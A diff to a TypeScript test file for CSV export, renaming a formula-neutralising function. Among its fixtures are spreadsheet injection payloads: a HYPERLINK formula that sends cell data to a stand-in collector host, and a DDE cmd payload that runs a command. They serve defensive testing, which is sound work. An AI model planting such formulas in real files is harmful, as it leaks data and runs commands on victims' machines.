@@ -1,5 +1,5 @@
 import { parse } from 'papaparse';
-import { csvLine, harmlessText } from '@/components/ui/table/export/csv';
+import { csvLine, neutralizeFormula } from '@/components/ui/table/export/csv';
 
 const cellsOf = (line: string) => parse<string[]>(line).data[0];
 
@@ -23,13 +23,13 @@ test.each([
   '=HYPERLINK("https://collector.example?"&A1)',
   "=cmd|'/c calc'!A1",
 ])('the cell %j is text to every spreadsheet (T87)', (text) => {
-  expect(harmlessText(text)).toBe(`'${text}`);
+  expect(neutralizeFormula(text)).toBe(`'${text}`);
   expect(cellsOf(csvLine(['first', text, 'last']))).toEqual(['first', `'${text}`, 'last']);
 });
 
 test.each(['\t=1', '\r=1', '\n=1', '\tplain', '\rplain', '\nplain'])(
   'a cell that begins with the control sign of %j is text (T87)',
-  (text) => expect(harmlessText(text)).toMatch(/^'/),
+  (text) => expect(neutralizeFormula(text)).toMatch(/^'/),
 );
 
 // Where a semicolon parts cells, what stands behind one in a cell is a cell of its own.
@@ -39,12 +39,12 @@ test.each([
   ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
   ['first line\n=1', "first line\n'=1"],
 ])('behind a separator of another country %j is text as well (T87)', (text, harmless) =>
-  expect(harmlessText(text)).toBe(harmless),
+  expect(neutralizeFormula(text)).toBe(harmless),
 );
 
 test.each(['-1', '-12.50', '1.234,5', 'Rao', 'a-b', 'a = b', 'x@y.example', '', '1+1', 'R&D'])(
   'the harmless text %j stays as it is',
-  (text) => expect(harmlessText(text)).toBe(text),
+  (text) => expect(neutralizeFormula(text)).toBe(text),
 );
 
 test('numbers stay numbers, and cells keep commas, quotes and lines (RFC 4180)', () => {
